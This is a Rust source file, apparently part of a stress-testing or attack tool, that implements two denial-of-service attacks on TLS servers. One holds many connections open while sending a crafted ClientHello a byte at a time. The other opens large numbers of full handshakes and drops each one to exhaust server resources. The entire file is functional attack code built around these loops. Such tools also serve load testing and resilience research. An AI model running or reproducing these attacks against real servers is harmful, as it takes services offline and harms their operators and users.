//! The attacks on TLS itself: handshakes that never end, and handshakes without end.
//!
//! Owns the order of events. Never asks anything.

use super::Attacking;
use crate::conns::{Connections, Event, Next, Script};
use crate::error::Result;
use crate::net::{self, Interest, Poller};
use crate::target::Target;
use crate::tls::ClientSide;
use std::os::fd::OwnedFd;
use std::time::{Duration, Instant};

/// How often each connection sends a byte.
const DRIP_EVERY: Duration = Duration::from_millis(100);
/// How long one handshake of a flood may take.
const SHAKE_TIME_MAX: Duration = Duration::from_secs(5);
/// The head of a ClientHello that promises 512 bytes: a record, then a handshake message in it.
const HELLO: [u8; 11] = [22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];

/// Many connections at once, each sending its ClientHello a byte at a time.
///
/// # Errors
/// When no descriptor is left.
pub fn drip(target: &Target, connections: usize, attacking: &Attacking) -> Result<()> {
    let mut poller = Poller::new()?;
    let mut open: Vec<Option<(OwnedFd, usize)>> = (0..connections).map(|_| None).collect();
    while attacking.goes_on() {
        for (at, place) in open.iter_mut().enumerate() {
            if place.is_none() {
                let Ok((fd, _)) = net::connect(target.address, None) else { continue };
                poller.add(&fd, at as u64, Interest::Read)?;
                attacking.connected();
                *place = Some((fd, 0));
            }
            let Some((fd, sent)) = place else { continue };
            let byte = HELLO.get(*sent).copied().unwrap_or(0);
            match net::send(&*fd, &[byte]) {
                Ok(len) => *sent += len,
                Err(e) if e.raw_os_error() == Some(libc::ENOTCONN) => {}
                Err(_) => *place = None,
            }
            attacking.did(1);
        }
        wait_for_ends(&mut poller, &mut open)?;
    }
    Ok(())
}

/// Notices which ones the server has closed, until the next byte is due.
fn wait_for_ends(poller: &mut Poller, open: &mut [Option<(OwnedFd, usize)>]) -> Result<()> {
    let until = Instant::now() + DRIP_EVERY;
    loop {
        let left = until.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Ok(());
        }
        for index in 0..poller.wait(Some(left))? {
            // A server that says anything to half a hello has given it up.
            open[poller.ready(index).token as usize] = None;
        }
    }
}

/// Full handshakes, so many at once, each followed by nothing.
///
/// # Errors
/// When no descriptor is left.
pub fn flood(target: &Target, side: ClientSide, connections: usize, attacking: &Attacking) -> Result<()> {
    let mut conns = Connections::new(target.address, Some(side), connections, Vec::new(), SHAKE_TIME_MAX)?;
    let mut script = Again { attacking, closed: (0..connections).collect() };
    while attacking.goes_on() {
        for slot in std::mem::take(&mut script.closed) {
            conns.open(slot, None, &mut script);
        }
        conns.poll(Duration::from_millis(5), &mut script)?;
        conns.expire(Instant::now(), &mut script);
    }
    Ok(())
}

/// Closes what is open.
struct Again<'a> {
    attacking: &'a Attacking,
    closed: Vec<usize>,
}

impl Script for Again<'_> {
    fn next(&mut self, slot: usize, event: Event) -> Next {
        if let Event::Connected = event {
            self.attacking.did(1);
            self.attacking.connected();
        }
        self.closed.push(slot);
        Next::Close
    }
}
